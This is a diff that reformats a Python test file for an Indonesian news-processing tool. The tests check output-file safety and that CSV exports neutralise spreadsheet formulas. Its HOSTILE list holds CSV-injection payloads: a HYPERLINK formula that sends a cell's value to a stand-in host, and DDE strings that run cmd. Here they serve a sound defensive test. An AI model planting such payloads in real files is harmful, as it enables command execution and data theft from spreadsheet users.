@@ -6,6 +6,7 @@
   writes through instead of replacing the node;
 - CSV cells that a spreadsheet would run as a formula are neutralised; JSONL keeps them exact.
 """
+
 from __future__ import annotations
 
 import csv
@@ -26,18 +27,22 @@ from fileio.outfile import output_file
 
 REPO = Path(__file__).resolve().parents[1]
 KEPATUHAN = str(REPO / ".venv" / "bin" / "kepatuhan")
-PAGE = ("<html lang='id'><head><meta charset='utf-8'><title>Pemkab Seluma Raih Zona Hijau</title></head><body>"
-        "<article><h1>Pemkab Seluma Raih Zona Hijau</h1><p>TAIS - Pemerintah Kabupaten Seluma meraih nilai 91,25 "
-        "dalam Penilaian Kepatuhan Penyelenggaraan Pelayanan Publik oleh Ombudsman RI tahun 2024 dan masuk zona "
-        "hijau dengan opini kualitas tertinggi.</p><p>Bupati Seluma Teddy Rahman menyampaikan terima kasih kepada "
-        "seluruh organisasi perangkat daerah yang telah bekerja keras memperbaiki standar pelayanan.</p>"
-        "<p>Kepala Perwakilan Ombudsman RI Provinsi Bengkulu menyerahkan hasil penilaian di Bengkulu.</p>"
-        "</article></body></html>")
+PAGE = (
+    "<html lang='id'><head><meta charset='utf-8'><title>Pemkab Seluma Raih Zona Hijau</title></head><body>"
+    "<article><h1>Pemkab Seluma Raih Zona Hijau</h1><p>TAIS - Pemerintah Kabupaten Seluma meraih nilai 91,25 "
+    "dalam Penilaian Kepatuhan Penyelenggaraan Pelayanan Publik oleh Ombudsman RI tahun 2024 dan masuk zona "
+    "hijau dengan opini kualitas tertinggi.</p><p>Bupati Seluma Teddy Rahman menyampaikan terima kasih kepada "
+    "seluruh organisasi perangkat daerah yang telah bekerja keras memperbaiki standar pelayanan.</p>"
+    "<p>Kepala Perwakilan Ombudsman RI Provinsi Bengkulu menyerahkan hasil penilaian di Bengkulu.</p>"
+    "</article></body></html>"
+)
 
 
 def page_lines(n: int, start: int = 0) -> str:
-    return "".join(json.dumps({"id": f"p{i}", "url": f"https://seluma.example.id/berita/{i}", "html": PAGE}) + "\n"
-                   for i in range(start, start + n))
+    return "".join(
+        json.dumps({"id": f"p{i}", "url": f"https://seluma.example.id/berita/{i}", "html": PAGE}) + "\n"
+        for i in range(start, start + n)
+    )
 
 
 def leftovers(d: Path) -> list[str]:
@@ -50,8 +55,13 @@ def test_ctrl_c_keeps_the_earlier_complete_output(tmp_path, command):
     out.write_text('{"id": "earlier", "complete": true}\n', encoding="utf-8")
     before = out.read_bytes()
     # input on stdin that never ends: the command is mid-batch when Ctrl-C comes
-    proc = subprocess.Popen([KEPATUHAN, command, "-", "-o", str(out), "--quiet"], stdin=subprocess.PIPE,
-                            stderr=subprocess.PIPE, text=True, start_new_session=True)
+    proc = subprocess.Popen(
+        [KEPATUHAN, command, "-", "-o", str(out), "--quiet"],
+        stdin=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+        text=True,
+        start_new_session=True,
+    )
     proc.stdin.write(page_lines(3))
     proc.stdin.flush()
     time.sleep(4)  # imports and the first pages
@@ -74,9 +84,14 @@ def test_a_failed_write_keeps_the_earlier_output(tmp_path, command):
     out = tmp_path / "out.jsonl"
     out.write_text('{"id": "earlier", "complete": true}\n', encoding="utf-8")
     before = out.read_bytes()
-    proc = subprocess.run([KEPATUHAN, command, str(src), "-o", str(out), "--quiet"], capture_output=True, text=True,
-                          timeout=300, preexec_fn=_limit_file_size,  # (no .pyc writes under the limit)
-                          env={**os.environ, "PYTHONDONTWRITEBYTECODE": "1"})
+    proc = subprocess.run(
+        [KEPATUHAN, command, str(src), "-o", str(out), "--quiet"],
+        capture_output=True,
+        text=True,
+        timeout=300,
+        preexec_fn=_limit_file_size,  # (no .pyc writes under the limit)
+        env={**os.environ, "PYTHONDONTWRITEBYTECODE": "1"},
+    )
     assert proc.returncode == 2, proc.stderr[-2000:]
     assert "Traceback" not in proc.stderr and "File too large" in proc.stderr
     assert len(proc.stderr.strip().splitlines()) == 1, proc.stderr
@@ -92,8 +107,9 @@ def test_output_through_a_symlink_replaces_the_target_and_keeps_the_link(tmp_pat
     real.write_text("old\n", encoding="utf-8")
     link = tmp_path / "latest.jsonl"
     link.symlink_to(real)
-    proc = subprocess.run([KEPATUHAN, "clean", str(src), "-o", str(link), "--quiet"], capture_output=True, text=True,
-                          timeout=300)
+    proc = subprocess.run(
+        [KEPATUHAN, "clean", str(src), "-o", str(link), "--quiet"], capture_output=True, text=True, timeout=300
+    )
     assert proc.returncode == 0, proc.stderr
     assert link.is_symlink() and os.readlink(link) == str(real)
     assert [json.loads(x)["id"] for x in real.read_text().splitlines()] == ["p0", "p1"]
@@ -107,8 +123,9 @@ def test_output_to_a_fifo_writes_through(tmp_path):
     got: list[bytes] = []
     reader = threading.Thread(target=lambda: got.append(fifo.read_bytes()))
     reader.start()
-    proc = subprocess.run([KEPATUHAN, "extract", str(src), "-o", str(fifo), "--quiet"], capture_output=True,
-                          text=True, timeout=300)
+    proc = subprocess.run(
+        [KEPATUHAN, "extract", str(src), "-o", str(fifo), "--quiet"], capture_output=True, text=True, timeout=300
+    )
     reader.join(timeout=30)
     assert proc.returncode == 0, proc.stderr
     assert stat.S_ISFIFO(os.stat(fifo).st_mode)
@@ -124,8 +141,9 @@ def test_output_to_a_device_writes_through(tmp_path):
     null = tmp_path / "null"
     os.mknod(null, stat.S_IFCHR | 0o666, os.makedev(1, 3))
     for command in ("clean", "extract"):
-        proc = subprocess.run([KEPATUHAN, command, str(src), "-o", str(null), "--quiet"], capture_output=True,
-                              text=True, timeout=300)
+        proc = subprocess.run(
+            [KEPATUHAN, command, str(src), "-o", str(null), "--quiet"], capture_output=True, text=True, timeout=300
+        )
         assert proc.returncode == 0, proc.stderr
         assert stat.S_ISCHR(os.stat(null).st_mode), f"{command} replaced the device node with a regular file"
 
@@ -145,8 +163,14 @@ def test_output_file_discards_on_error_and_keeps_permissions(tmp_path):
 
 
 # ---------------------------------------------------------------------------- CSV formula injection
-HOSTILE = ['=HYPERLINK("http://contoh.invalid/?x="&A1,"Klik hasil penilaian")', "+cmd|' /C calc'!A0",
-           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+HOSTILE = [
+    '=HYPERLINK("http://contoh.invalid/?x="&A1,"Klik hasil penilaian")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 def test_safe_cell_follows_the_owasp_rule():
@@ -160,11 +184,21 @@ def test_export_csv_neutralises_formulas_and_jsonl_keeps_them(tmp_path):
     from corpus.export import export
     from corpus.store import Corpus
 
-    text = ("Pemerintah Kabupaten Seluma meraih nilai 91,25 dalam Penilaian Kepatuhan Penyelenggaraan Pelayanan "
-            "Publik Ombudsman RI tahun 2024 dan masuk zona hijau.")
+    text = (
+        "Pemerintah Kabupaten Seluma meraih nilai 91,25 dalam Penilaian Kepatuhan Penyelenggaraan Pelayanan "
+        "Publik Ombudsman RI tahun 2024 dan masuk zona hijau."
+    )
     with Corpus.open(f"sqlite:///{tmp_path / 'c.sqlite'}") as corpus:
-        corpus.ingest_article({"id": "x1", "url": "https://seluma.example.id/berita/1", "text": text,
-                               "title": HOSTILE[0], "site": HOSTILE[3], "published": "2024-12-13"})
+        corpus.ingest_article(
+            {
+                "id": "x1",
+                "url": "https://seluma.example.id/berita/1",
+                "text": text,
+                "title": HOSTILE[0],
+                "site": HOSTILE[3],
+                "published": "2024-12-13",
+            }
+        )
         corpus.consolidate()
         export(corpus, tmp_path / "csv", "csv")
         export(corpus, tmp_path / "jsonl", "jsonl")
@@ -181,8 +215,16 @@ def test_export_csv_neutralises_formulas_and_jsonl_keeps_them(tmp_path):
 def test_audit_csv_neutralises_formulas(tmp_path):
     from audit.report import write_csv
 
-    finding = {"kind": "score_mismatch", "severity": "high", "entity": HOSTILE[1], "year": 2024,
-               "reported_value": "-2.5", "url": HOSTILE[0], "evidence": HOSTILE[4], "highlight": [[0, 3]]}
+    finding = {
+        "kind": "score_mismatch",
+        "severity": "high",
+        "entity": HOSTILE[1],
+        "year": 2024,
+        "reported_value": "-2.5",
+        "url": HOSTILE[0],
+        "evidence": HOSTILE[4],
+        "highlight": [[0, 3]],
+    }
     write_csv([finding], tmp_path / "audit.csv")
     with open(tmp_path / "audit.csv", encoding="utf-8", newline="") as fh:
         row = next(csv.DictReader(fh))
